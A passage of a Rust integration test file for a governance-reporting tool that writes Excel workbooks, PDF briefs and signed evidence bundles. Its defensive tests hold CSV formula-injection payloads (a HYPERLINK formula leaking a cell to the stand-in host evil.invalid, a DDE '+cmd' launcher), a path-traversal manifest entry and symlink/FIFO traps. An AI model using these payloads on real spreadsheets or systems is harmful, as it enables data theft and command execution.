//! The governance workbook, read back with calamine as a service manager's Excel would read it.

use std::path::Path;

use calamine::{Data, DataType, Reader, Xlsx, open_workbook};
use govpack::calendar::Period;
use govpack::config::Config;
use govpack::ingest;
use govpack::kpi;
use govpack::lake::Lake;
use govpack::reports;
use tempfile::TempDir;

/// The sample's last month, which the report tests write packs for.
fn october() -> Period {
    Period::month(2026, 10).unwrap()
}

/// The committed sample, its three months computed.
fn sample_lake(dir: &Path) -> Lake {
    sample_lake_of(dir, &["csv", "json"])
}

/// The committed sample's files of these extensions (`csv` alone: without the vulnerability
/// reference), its three months computed.
fn sample_lake_of(dir: &Path, extensions: &[&str]) -> Lake {
    let lake = Lake::open(&dir.join("lake")).unwrap();
    let data = Path::new(env!("CARGO_MANIFEST_DIR")).join("sample_data");
    let files: Vec<_> = std::fs::read_dir(&data)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| extensions.iter().any(|x| e == *x)))
        .collect();
    ingest::ingest(&Config::default(), &lake, &files).unwrap();
    for month in [8, 9, 10] {
        kpi::compute(&Config::default(), &lake, Period::month(2026, month).unwrap()).unwrap();
    }
    lake
}

fn workbook(lake: &Lake, tenant: Option<&str>, path: &Path) -> Xlsx<std::io::BufReader<std::fs::File>> {
    let session = reports::session(lake, tenant).unwrap();
    reports::workbook::write(&session, october(), &reports::Brand::default(), path).unwrap();
    open_workbook(path).unwrap()
}

fn cells(book: &mut Xlsx<std::io::BufReader<std::fs::File>>, sheet: &str) -> Vec<Vec<Data>> {
    book.worksheet_range(sheet)
        .unwrap()
        .rows()
        .map(|r| r.to_vec())
        .collect()
}

#[test]
fn the_workbook_has_every_sheet_and_the_scorecard_shows_kpi_summarys_values() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let mut book = workbook(&lake, None, &dir.path().join("book.xlsx"));
    assert_eq!(
        book.sheet_names(),
        [
            "Summary",
            "Scorecard",
            "Clients",
            "Compliance",
            "Non-compliant devices",
            "Chronic devices",
            "Overdue patches",
            "Missing patches",
            "KEV exposure",
            "Failure patterns",
            "Remediation",
            "Changes",
            "Pilot soak",
            "Data quality",
            "About",
            "Charts",
            "Risk register",
            "Control register",
            "Framework references",
            "Assessment objectives"
        ]
    );
    let scorecard = cells(&mut book, "Scorecard");
    let header: Vec<String> = scorecard[0].iter().map(|c| c.to_string()).collect();
    assert_eq!(
        header,
        [
            "kpi",
            "kpi_id",
            "scope",
            "tenant_id",
            "unit",
            "value",
            "baseline_value",
            "target",
            "status",
            "measurement",
            "measurement_note",
            "numerator",
            "denominator",
            "baseline_period_start",
            "trend",
            "value 2026-08",
            "value 2026-09",
            "value 2026-10"
        ]
    );
    let row = scorecard
        .iter()
        .find(|r| {
            r[1] == Data::String("patch_compliance_rate".into()) && r[2] == Data::String("portfolio".into())
        })
        .expect("the portfolio compliance row");
    // Its name from the brief's catalogue; kpi_summary for October 2026 over the sample: 45
    // compliant of 52 devices.
    assert_eq!(row[0], Data::String("Patch compliance (devices)".into()));
    assert_eq!(row[5], Data::Float(44.0 / 52.0));
    assert_eq!(row[8], Data::String("not_improving".into()));
    // Every client's devices were judged, from patch state or summaries: measured, no caveat.
    assert_eq!(row[9], Data::String("measured".into()));
    assert_eq!(row[10], Data::Empty);
    // The trend's numbers, month by month: 48/52, 47/52 and 44/52 devices...
    assert_eq!(
        row[15..],
        [
            Data::Float(48.0 / 52.0),
            Data::Float(47.0 / 52.0),
            Data::Float(44.0 / 52.0)
        ]
    );
    // ...and a client by its name, its id beside.
    assert!(
        scorecard
            .iter()
            .any(|r| r[2] == Data::String("Northwind Dental Group".into())
                && r[3] == Data::String("29683500".into()))
    );
    // ...drawn as one sparkline per row from those columns (Excel's x14 sparkline group).
    let mut xlsx = zip::ZipArchive::new(std::fs::File::open(dir.path().join("book.xlsx")).unwrap()).unwrap();
    let mut scorecard_xml = String::new();
    std::io::Read::read_to_string(
        &mut xlsx.by_name("xl/worksheets/sheet2.xml").unwrap(),
        &mut scorecard_xml,
    )
    .unwrap();
    assert!(scorecard_xml.contains("<x14:sparklineGroup"), "no sparklines");
    assert!(
        scorecard_xml.contains("<xm:f>Scorecard!P2:R2</xm:f><xm:sqref>O2</xm:sqref>"),
        "{scorecard_xml}"
    );
    // The control register runs each control's test: C5 (timely flaw remediation) is the
    // patch-compliance test, 52 devices and 8 exceptions; C3 (least privilege) has no test.
    let register = cells(&mut book, "Control register");
    let c5 = register
        .iter()
        .find(|r| r[0] == Data::String("C5".into()))
        .unwrap();
    assert_eq!(
        c5[5],
        Data::String(
            "NIST SP 800-171 3.14.1; CMMC SI.L2-3.14.1; SOC 2 CC7.1; ISO/IEC 27001:2022 A.8.8".into()
        )
    );
    assert_eq!(
        (&c5[7], &c5[8], &c5[9]),
        (
            &Data::Float(52.0),
            &Data::Float(8.0),
            &Data::String("exceptions_found".into())
        )
    );
    let c3 = register
        .iter()
        .find(|r| r[0] == Data::String("C3".into()))
        .unwrap();
    assert_eq!(c3[9], Data::String("manual_evidence".into()));
    // Dates are real dates, not text.
    let about = cells(&mut book, "About");
    assert!(about.iter().any(|r| r[0] == Data::String("period".into())));
    assert!(
        about
            .iter()
            .any(|r| r[0] == Data::String("setting grace_days".into())),
        "{about:?}"
    );
    // Devices by hostname first, clients by name with their id beside.
    let remediation = cells(&mut book, "Remediation");
    assert_eq!(
        remediation[0][..4],
        [
            Data::String("hostname".into()),
            Data::String("client".into()),
            Data::String("tenant_id".into()),
            Data::String("device_id".into())
        ]
    );
    assert!(
        matches!(remediation[1][6], Data::DateTime(_)),
        "{:?}",
        remediation[1]
    );
    assert_eq!(remediation[1][0], Data::String("HFL-WS011".into()));
    assert_eq!(remediation[1][1], Data::String("Harbor Freight Logistics".into()));
}

/// The release binary run in `dir` on its lake `dir/lake`.
fn govpack_in(dir: &Path, args: &[&str]) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_govpack"))
        .args(["--lake", "lake"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

/// Writes a bundle's manifest and, beside it, its hash, as `sha256sum` would.
fn write_manifests(bundle: &Path, manifest: &str) {
    std::fs::write(bundle.join("manifest.sha256"), manifest).unwrap();
    std::fs::write(
        bundle.join("manifest.sha256.sha256"),
        format!(
            "{}  manifest.sha256\n",
            govpack::files::sha256_hex(manifest.as_bytes())
        ),
    )
    .unwrap();
}

/// Ingests `data` into `dir/lake`, computes October 2026 and writes the portfolio's bundle in `dir`.
fn october_bundle(dir: &Path, data: std::path::PathBuf) -> (Lake, std::path::PathBuf) {
    let lake = Lake::open(&dir.join("lake")).unwrap();
    ingest::ingest(&Config::default(), &lake, &[data]).unwrap();
    kpi::compute(&Config::default(), &lake, Period::month(2026, 10).unwrap()).unwrap();
    let session = reports::session(&lake, None).unwrap();
    let bundle = reports::bundle::write(
        &session,
        october(),
        "portfolio",
        dir,
        None,
        &reports::Brand::default(),
    )
    .unwrap();
    (lake, bundle)
}

/// `alpha_exports` with workstations d1..dn (PC1..PCn), seen on 31 October.
fn alpha_workstations(dir: &Path, n: usize) -> std::path::PathBuf {
    let devices: String = (1..=n)
        .map(|i| format!("2026-10-31,a,d{i},PC{i},workstation,2026-10-31T01:00:00Z\n"))
        .collect();
    alpha_exports(dir, &devices)
}

/// A `data/` folder with tenant `a` (Alpha) and its devices export of `devices` (rows after the
/// header `snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc`).
fn alpha_exports(dir: &Path, devices: &str) -> std::path::PathBuf {
    let data = dir.join("data");
    std::fs::create_dir_all(&data).unwrap();
    std::fs::write(data.join("tenants.csv"), "tenant_id,tenant_name\na,Alpha\n").unwrap();
    std::fs::write(
        data.join("devices.csv"),
        format!("snapshot_date,tenant_id,device_id,hostname,device_class,last_seen_utc\n{devices}"),
    )
    .unwrap();
    data
}

#[test]
fn a_title_that_looks_like_a_formula_is_written_as_text() {
    let dir = TempDir::new().unwrap();
    let data = alpha_exports(
        dir.path(),
        "2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n",
    );
    std::fs::write(
        data.join("changes.csv"),
        "change_id,tenant_id,title,change_type,risk,created_utc,actual_end_utc,outcome\n\
         c1,a,\"=HYPERLINK(\"\"http://evil.invalid\"\",\"\"click\"\")\",normal,low,2026-10-01T00:00:00Z,2026-10-02T00:00:00Z,successful\n",
    )
    .unwrap();
    let lake = Lake::open(&dir.path().join("lake")).unwrap();
    ingest::ingest(&Config::default(), &lake, &[data]).unwrap();
    kpi::compute(&Config::default(), &lake, Period::month(2026, 10).unwrap()).unwrap();
    let path = dir.path().join("book.xlsx");
    let mut book = workbook(&lake, None, &path);
    let changes = cells(&mut book, "Changes");
    let title = changes[0]
        .iter()
        .position(|c| *c == Data::String("title".into()))
        .unwrap();
    assert_eq!(
        changes[1][title],
        Data::String("=HYPERLINK(\"http://evil.invalid\",\"click\")".into())
    );
    let formulas = book.worksheet_formula("Changes").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a cell holds a formula"
    );
}

#[test]
fn a_tenants_workbook_holds_no_other_tenants_ids_or_names() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let mut book = workbook(&lake, Some("29683500"), &dir.path().join("tenant.xlsx"));
    let others = [
        "29683517", "29683534", "29683551", "Harbor", "Cedar", "Summit", "HFL-", "CVC-", "SVL-", "hfl-",
        "cvc-", "svl-",
    ];
    let mut seen_own = false;
    for sheet in book.sheet_names() {
        for row in cells(&mut book, &sheet) {
            for cell in row {
                let text = cell.to_string();
                seen_own |= text.contains("29683500") || text.contains("NWD-");
                for other in others {
                    assert!(
                        !text.contains(other),
                        "{sheet}: `{text}` names another tenant ({other})"
                    );
                }
            }
        }
    }
    assert!(seen_own, "the tenant's own rows are there");
}

#[test]
fn text_that_looks_like_a_formula_is_inert_in_every_csv_of_a_bundle_and_of_query() {
    let dir = TempDir::new().unwrap();
    let data = alpha_exports(
        dir.path(),
        "2026-10-31,a,d1,\"=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"click\"\")\",workstation,2026-10-31T01:00:00Z\n\
         2026-10-31,a,d2,@SUM(1+1),workstation,2026-10-31T01:00:00Z\n",
    );
    std::fs::write(
        data.join("changes.csv"),
        "change_id,tenant_id,title,change_type,risk,created_utc,actual_end_utc,outcome\n\
         c1,a,+cmd|' /C calc'!A0,normal,low,2026-10-01T00:00:00Z,2026-10-02T00:00:00Z,successful\n",
    )
    .unwrap();
    let (_lake, bundle) = october_bundle(dir.path(), data);

    let mut cells = Vec::new();
    for entry in std::fs::read_dir(bundle.join("controls")).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for record in reader.records() {
            cells.extend(record.unwrap().iter().map(String::from));
        }
    }
    for expected in [
        "'=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"click\")",
        "'@SUM(1+1)",
        "'+cmd|' /C calc'!A0",
    ] {
        assert!(cells.iter().any(|c| c == expected), "{expected} not in {cells:?}");
    }
    let live: Vec<&String> = cells
        .iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(live.is_empty(), "cells a spreadsheet would run: {live:?}");

    let out = govpack_in(
        dir.path(),
        &[
            "query",
            "--format",
            "csv",
            "select hostname, -1 as delta, -0.5 as share from devices where device_id = 'd1'",
        ],
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "hostname,delta,share\n\"'=HYPERLINK(\"\"http://evil.invalid/?x=\"\"&A1,\"\"click\"\")\",-1,-0.5\n",
        "numbers stay numbers; {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_value_no_format_holds_is_written_safely_and_a_failed_pack_keeps_the_bundle_already_issued() {
    let dir = TempDir::new().unwrap();
    let data = alpha_exports(
        dir.path(),
        "2026-10-31,a,d1,PC1,workstation,2026-10-31T01:00:00Z\n",
    );
    // Windows' zero date as a release date, and a change title longer than an Excel cell holds
    // (cut at ingest to what a cell holds).
    std::fs::write(
        data.join("patch_status.csv"),
        "snapshot_date,tenant_id,device_id,patch_id,release_date,classification,approval,state\n\
         2026-10-31,a,d1,KB1,1601-01-01,security,approved,missing\n",
    )
    .unwrap();
    let title = "x".repeat(40_000);
    std::fs::write(
        data.join("changes.csv"),
        format!(
            "change_id,tenant_id,title,change_type,risk,created_utc,actual_end_utc,outcome\n\
             c1,a,{title},normal,low,2026-10-01T00:00:00Z,2026-10-02T00:00:00Z,successful\n"
        ),
    )
    .unwrap();
    let run = |args: &[&str], templates: Option<&Path>| {
        let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_govpack"));
        command
            .args(["--lake", "lake"])
            .args(args)
            .current_dir(dir.path());
        if let Some(t) = templates {
            command.env("GOVPACK_TEMPLATES", t);
        }
        command.output().unwrap()
    };
    assert!(run(&["ingest", "data"], None).status.success());
    assert!(run(&["kpi", "--period", "2026-10"], None).status.success());
    let out = run(&["report", "--period", "2026-10", "--out", "packs"], None);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let bundle = dir.path().join("packs/evidence-portfolio-2026-10");
    assert!(reports::bundle::verify(&bundle).unwrap().is_empty());
    let mut book: Xlsx<_> = open_workbook(bundle.join("kpi-and-risk-register.xlsx")).unwrap();
    let changes = cells(&mut book, "Changes");
    let at = changes[0]
        .iter()
        .position(|c| *c == Data::String("title".into()))
        .unwrap();
    let Data::String(cut) = &changes[1][at] else {
        panic!("{:?}", changes[1][at])
    };
    // Ingest kept as much as an Excel cell holds (and counted the cut): the workbook, the
    // bundle's CSVs and the lake hold the same text.
    assert_eq!(cut.chars().count(), 32_767);
    assert_eq!(cut, &title[..32_767]);
    let cab = std::fs::read_to_string(bundle.join("controls/change-intake-population.csv")).unwrap();
    assert!(
        cab.contains(cut.as_str()) && !cab.contains(&title),
        "the CSV holds the lake's text"
    );
    let overdue = cells(&mut book, "Overdue patches");
    assert!(
        overdue
            .iter()
            .flatten()
            .any(|c| *c == Data::String("1601-01-01".into())),
        "{overdue:?}"
    );
    // A finding a reader of the workbook is told about, with where it is.
    let findings: Vec<String> = cells(&mut book, "Data quality")
        .iter()
        .filter(|r| r[0] == Data::String("value the workbook cannot hold".into()))
        .map(|r| format!("{} | {}", r[1], r[2]))
        .collect();
    assert!(
        findings
            .iter()
            .any(|f| f.contains("Overdue patches row") && f.contains("release_date | the date 1601-01-01")),
        "{findings:?}"
    );
    let issued = std::fs::read(bundle.join("manifest.sha256")).unwrap();

    // The next pack fails half-way (its templates are gone): the issued bundle stays whole.
    let empty = dir.path().join("no-templates");
    std::fs::create_dir_all(&empty).unwrap();
    let out = run(&["report", "--period", "2026-10", "--out", "packs"], Some(&empty));
    assert!(!out.status.success());
    assert_eq!(std::fs::read(bundle.join("manifest.sha256")).unwrap(), issued);
    assert!(reports::bundle::verify(&bundle).unwrap().is_empty());
    let leftovers: Vec<String> = std::fs::read_dir(dir.path().join("packs"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn verify_refuses_a_manifest_entry_outside_the_bundle() {
    let dir = TempDir::new().unwrap();
    let bundle = dir.path().join("evidence-x-2026-10");
    std::fs::create_dir_all(&bundle).unwrap();
    std::fs::write(dir.path().join("secret"), "s").unwrap();
    let digest = govpack::files::sha256_hex(b"s");
    write_manifests(&bundle, &format!("{digest}  ../secret\n"));
    let problems = reports::bundle::verify(&bundle).unwrap();
    assert_eq!(
        problems,
        vec!["manifest.sha256 line 1: `../secret` is not a file of the bundle"]
    );
}

#[cfg(unix)]
#[test]
fn verify_reads_only_the_bundles_regular_files_never_a_pipe_a_device_or_a_link() {
    let dir = TempDir::new().unwrap();
    let bundle = dir.path().join("evidence-x-2026-10");
    std::fs::create_dir_all(&bundle).unwrap();
    std::fs::write(bundle.join("run.json"), "{}").unwrap();
    let digest = govpack::files::sha256_hex(b"{}");
    // A received bundle can hold anything: a pipe that would block a reader, a link to an
    // endless device, a link to the root of the file system.
    assert!(
        std::process::Command::new("mkfifo")
            .arg(bundle.join("fifo.csv"))
            .status()
            .unwrap()
            .success()
    );
    std::os::unix::fs::symlink("/dev/zero", bundle.join("zero.csv")).unwrap();
    std::os::unix::fs::symlink("/", bundle.join("root")).unwrap();
    write_manifests(
        &bundle,
        &format!("{digest}  run.json\n{digest}  fifo.csv\n{digest}  zero.csv\n{digest}  root/dev/zero\n"),
    );
    let (send, receive) = std::sync::mpsc::channel();
    let checked = bundle.clone();
    std::thread::spawn(move || send.send(reports::bundle::verify(&checked).unwrap()));
    let problems = receive
        .recv_timeout(std::time::Duration::from_secs(60))
        .expect("verify returns, whatever the bundle holds");
    for expected in [
        "fifo.csv: cannot be checked: not a regular file",
        "zero.csv: cannot be checked: a symbolic link",
        "root: a symbolic link; a bundle holds only files",
        "root/dev/zero: reached through a symbolic link",
        "fifo.csv: not a regular file",
        "zero.csv: a symbolic link",
    ] {
        assert!(
            problems.iter().any(|p| p.starts_with(expected)),
            "{expected}: {problems:?}"
        );
    }
    assert!(
        !problems.iter().any(|p| p.starts_with("run.json")),
        "{problems:?}"
    );
}

/// Every part of an OOXML package (a deck), by name.
fn package_parts(path: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut parts = std::collections::BTreeMap::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        parts.insert(entry.name().unwrap().to_string(), bytes);
    }
    parts
}

fn all_text_of_bundle(dir: &Path) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "xlsx") {
                let mut book: Xlsx<_> = open_workbook(&path).unwrap();
                for sheet in book.sheet_names() {
                    for row in cells(&mut book, &sheet) {
                        for cell in row {
                            out.push((format!("{}:{sheet}", path.display()), cell.to_string()));
                        }
                    }
                }
            } else if path.extension().is_some_and(|e| e == "pptx" || e == "docx") {
                // Every part of the deck and the runbook, the charts' embedded workbooks cell by
                // cell.
                for (part, bytes) in package_parts(&path) {
                    let place = format!("{}:{part}", path.display());
                    if part.ends_with(".xlsx") {
                        let mut book = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
                        for sheet in book.sheet_names() {
                            let range = book.worksheet_range(&sheet).unwrap();
                            for cell in range.used_cells() {
                                out.push((place.clone(), cell.2.to_string()));
                            }
                        }
                    } else {
                        out.push((place, String::from_utf8_lossy(&bytes).into_owned()));
                    }
                }
            } else if path.extension().is_some_and(|e| e == "pdf") {
                let pdf = lopdf::Document::load(&path).unwrap();
                let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
                out.push((path.display().to_string(), pdf.extract_text(&pages).unwrap()));
            } else {
                out.push((
                    path.display().to_string(),
                    std::fs::read_to_string(&path).unwrap(),
                ));
            }
        }
    }
    out
}

#[test]
fn an_evidence_bundle_verifies_with_sha256sum_and_govpack_and_detects_tampering() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let session = reports::session(&lake, None).unwrap();
    let bundle = reports::bundle::write(
        &session,
        october(),
        "portfolio",
        dir.path(),
        None,
        &reports::Brand::default(),
    )
    .unwrap();
    assert!(bundle.ends_with("evidence-portfolio-2026-10"));
    for list in ["manifest.sha256", "manifest.sha256.sha256"] {
        let check = std::process::Command::new("sha256sum")
            .args(["-c", list])
            .current_dir(&bundle)
            .output()
            .unwrap();
        assert!(
            check.status.success(),
            "{}",
            String::from_utf8_lossy(&check.stdout)
        );
    }
    let manifest = std::fs::read_to_string(bundle.join("manifest.sha256")).unwrap();
    // The brief, the deck, the workbook, the failure-pattern analysis, run.json, 14 control tests x 2, the
    // exception register, the remediation actions and the flaws not reported in time.
    assert_eq!(manifest.lines().count(), 37, "{manifest}");
    let mut analysis: Xlsx<_> = open_workbook(bundle.join("failure-patterns-2026-10.xlsx")).unwrap();
    assert_eq!(
        analysis.sheet_names(),
        ["Top patterns", "Error codes", "Recurring pairs", "Noisy classes"]
    );
    let top = cells(&mut analysis, "Top patterns");
    let recommendation = top[0]
        .iter()
        .position(|c| *c == Data::String("recommendation".into()))
        .unwrap();
    assert!(
        top[1..].iter().all(|r| !r[recommendation].to_string().is_empty()),
        "every pattern has a recommendation"
    );
    assert!(reports::bundle::verify(&bundle).unwrap().is_empty());
    let run: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(bundle.join("run.json")).unwrap()).unwrap();
    // The settings the figures were computed with travel with them.
    assert_eq!(run["parameters"]["stale_after_days"], 7);
    assert_eq!(
        run["parameters"]["required_classifications"],
        "critical, security"
    );
    let compliance = &run["controls"][1];
    assert_eq!(compliance["control"], "patch-compliance");
    // The patch-compliance control: 52 devices tested, 8 non-compliant (kpi_summary: 44 of 52).
    assert_eq!(
        (
            compliance["population"].as_u64(),
            compliance["exceptions"].as_u64()
        ),
        (Some(52), Some(8))
    );
    // What the figures rest on: the summary-only client's missing per-patch export, once.
    let gaps = run["coverage"]["not_measured"].as_array().unwrap();
    let per_patch = gaps
        .iter()
        .find(|g| g["missing"] == "RMM per-patch status export")
        .unwrap_or_else(|| panic!("{gaps:?}"));
    assert_eq!(per_patch["clients"], 1);
    assert_eq!(per_patch["first_clients"], "Cedar Valley Family Clinic");
    assert_eq!(run["coverage"]["stale_clients"], serde_json::json!([]));
    std::fs::write(bundle.join("controls/pilot-soak-exceptions.csv"), "tenant_id\n").unwrap();
    std::fs::write(bundle.join("extra.txt"), "slipped in").unwrap();
    let problems = reports::bundle::verify(&bundle).unwrap();
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert!(
        problems[0].contains("pilot-soak-exceptions.csv: content differs"),
        "{problems:?}"
    );
    assert!(
        problems[1].contains("extra.txt: in the bundle but not in the manifest"),
        "{problems:?}"
    );
}

#[test]
fn a_tenants_evidence_bundle_holds_no_other_tenants_ids_names_or_devices() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let session = reports::session(&lake, Some("29683500")).unwrap();
    let bundle = reports::bundle::write(
        &session,
        october(),
        "29683500",
        dir.path(),
        None,
        &reports::Brand::default(),
    )
    .unwrap();
    let others = [
        "29683517",
        "29683534",
        "29683551",
        "Harbor",
        "Cedar",
        "Summit",
        "HFL-",
        "CVC-",
        "SVL-",
        "hfl-",
        "cvc-",
        "svl-",
        "tenants.csv",
        "devices.csv",
    ];
    let texts = all_text_of_bundle(&bundle);
    assert!(
        texts.iter().any(|(_, t)| t.contains("nwd-")),
        "the tenant's own devices are there"
    );
    // The client is named as it is called, in its brief and on its sheets, its id beside.
    let brief: String = texts
        .iter()
        .filter(|(place, _)| place.ends_with("proof-brief.pdf"))
        .flat_map(|(_, t)| t.split_whitespace())
        .collect::<Vec<_>>()
        .join(" ");
    assert!(
        brief.contains("Northwind Dental Group (client 29683500)"),
        "{brief}"
    );
    assert!(!brief.contains("Scope 29683500"), "{brief}");
    assert!(
        texts
            .iter()
            .any(|(place, t)| place.ends_with(":Non-compliant devices") && t == "Northwind Dental Group"),
        "the client's name on its sheets"
    );
    for (place, text) in texts {
        for other in others {
            assert!(!text.contains(other), "{place} names `{other}`");
        }
    }
}

#[test]
fn the_proof_brief_has_pages_the_period_the_kpi_values_and_embedded_fonts() {
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let session = reports::session(&lake, None).unwrap();
    let path = dir.path().join("proof-brief.pdf");
    reports::proof_brief::write(
        &session,
        october(),
        "portfolio",
        Some("abc123"),
        &reports::Brand::default(),
        &path,
    )
    .unwrap();
    let pdf = lopdf::Document::load(&path).unwrap();
    let pages: Vec<u32> = pdf.get_pages().keys().copied().collect();
    assert!(pages.len() >= 2, "{} pages", pages.len());
    let text = pdf.extract_text(&pages).unwrap();
    let squashed: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    for expected in [
        "2026-10-01 to 2026-10-31",
        "84.6%", // patch compliance, 44 of 52 devices
        "Patch compliance (devices)",
        "C5 Timely flaw remediation",
        "abc123",
        &format!("Page 1 of {}", pages.len()),
    ] {
        assert!(
            squashed.contains(expected),
            "`{expected}` not in the brief's text: {squashed}"
        );
    }
    let embedded = pdf
        .objects
        .values()
        .filter_map(|o| o.as_dict().ok())
        .filter(|d| d.has(b"FontFile2"))
        .count();
    assert_eq!(embedded, 2, "regular and bold, embedded");
    let info = pdf
        .trailer
        .get(b"Info")
        .and_then(|i| pdf.dereference(i))
        .unwrap()
        .1
        .as_dict()
        .unwrap()
        .clone();
    let title = info.get(b"Title").unwrap().as_str().unwrap();
    // PDF text strings are PDFDocEncoding, or UTF-16BE after a byte-order mark.
    let title = match title.strip_prefix(&[0xFE, 0xFF]) {
        Some(utf16) => String::from_utf16_lossy(
            &utf16
                .chunks(2)
                .map(|c| u16::from_be_bytes([c[0], c[1]]))
                .collect::<Vec<_>>(),
        ),
        None => String::from_utf8_lossy(title).into_owned(),
    };
    assert!(
        title.contains("proof brief (All clients (portfolio), 2026-10)"),
        "{title}"
    );
}

/// Copies a lake with every Parquet file's rows in reverse order: the same data, stored in
/// another order, as a re-ingest or a compaction may store it.
fn reversed_copy(lake: &Lake, to: &Path) -> Lake {
    let conn = duckdb::Connection::open_in_memory().unwrap();
    conn.execute_batch("set threads = 1").unwrap();
    let mut stack = vec![lake.root().to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            let copy = to.join(path.strip_prefix(lake.root()).unwrap());
            if path.is_dir() {
                std::fs::create_dir_all(&copy).unwrap();
                stack.push(path);
            } else if path.extension().is_some_and(|e| e == "parquet") {
                conn.execute_batch(&format!(
                    "copy (select * exclude (file_row) from
                            (select *, row_number() over () as file_row from read_parquet('{}', hive_partitioning = false))
                          order by file_row desc)
                     to '{}' (format parquet)",
                    path.display(),
                    copy.display()
                ))
                .unwrap();
            } else {
                std::fs::copy(&path, &copy).unwrap();
            }
        }
    }
    Lake::open(to).unwrap()
}

#[test]
fn a_report_is_the_same_whatever_order_the_lake_stores_its_rows_in() {
    // Rows that tie in a report's sort order would come out in storage order (and, on several
    // cores, in any order): every report query must sort on a key no two rows share.
    let dir = TempDir::new().unwrap();
    let lake = sample_lake(dir.path());
    let reversed = reversed_copy(&lake, &dir.path().join("reversed"));
    for tenant in [None, Some("29683500")] {
        let scope = tenant.unwrap_or("portfolio");
        let mut text = Vec::new();
        for (name, lake) in [("stored", &lake), ("reversed", &reversed)] {
            let out = dir.path().join(name).join(scope);
            std::fs::create_dir_all(&out).unwrap();
            let session = reports::session(lake, tenant).unwrap();
            let bundle =
                reports::bundle::write(&session, october(), scope, &out, None, &reports::Brand::default())
                    .unwrap();
            // Each file's text in order; the files by name.
            let mut files = std::collections::BTreeMap::<String, Vec<String>>::new();
            for (file, t) in all_text_of_bundle(&bundle) {
                let file = file.replace(&bundle.display().to_string(), "");
                files.entry(file).or_default().push(t);
            }
            text.push(files.into_iter().collect::<Vec<_>>());
        }
        assert!(!text[0].is_empty());
        // The manifest last: a file that differs is named by its own text first.
        for (stored, reversed) in text[0].iter().zip(&text[1]).rev() {
            assert_eq!(stored, reversed, "{scope}");
        }
        assert_eq!(text[0].len(), text[1].len());
    }
}

/// An ed25519 key made by stock OpenSSH, as the README tells an MSP to make it.
fn ssh_keygen(dir: &Path, name: &str, args: &[&str]) -> std::path::PathBuf {
    let key = dir.join(name);
    let made = std::process::Command::new("ssh-keygen")
        .args(["-q", "-C", "govpack evidence test"])
        .args(args)
        .arg("-f")
        .arg(&key)
        .output()
        .expect("ssh-keygen (openssh-client) is needed: .ci/run installs it");
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    key
}

fn allowed_signers(dir: &Path, name: &str, key: &Path, line_start: &str) -> std::path::PathBuf {
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let file = dir.join(name);
    std::fs::write(&file, format!("{line_start} {public}")).unwrap();
    file
}

/// What an editor of evidence would do: drop a row, rebuild both hash files with sha256sum.
fn rebuild_manifests(bundle: &Path) {
    let mut lines = Vec::new();
    let mut files: Vec<String> = std::fs::read_to_string(bundle.join("manifest.sha256"))
        .unwrap()
        .lines()
        .map(|l| l.split_once("  ").unwrap().1.to_string())
        .collect();
    files.sort();
    for f in files {
        let bytes = std::fs::read(bundle.join(&f)).unwrap();
        lines.push(format!("{}  {f}\n", govpack::files::sha256_hex(&bytes)));
    }
    write_manifests(bundle, &lines.concat());
}

#[test]
fn a_signed_bundle_checks_with_stock_openssh_and_an_edited_one_fails_though_its_hashes_were_rebuilt() {
    let dir = TempDir::new().unwrap();
    sample_lake(dir.path());
    let key = ssh_keygen(dir.path(), "evidence_ed25519", &["-t", "ed25519", "-N", ""]);
    std::fs::write(
        dir.path().join("govpack.toml"),
        "[evidence]\nsigning_key = \"evidence_ed25519\"\n",
    )
    .unwrap();
    let govpack = |args: &[&str]| govpack_in(dir.path(), args);
    let out = govpack(&["report", "--period", "2026-10", "--out", "packs"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let bundle = dir.path().join("packs/evidence-portfolio-2026-10");
    let signature = std::fs::read_to_string(bundle.join("manifest.sha256.sig")).unwrap();
    assert!(
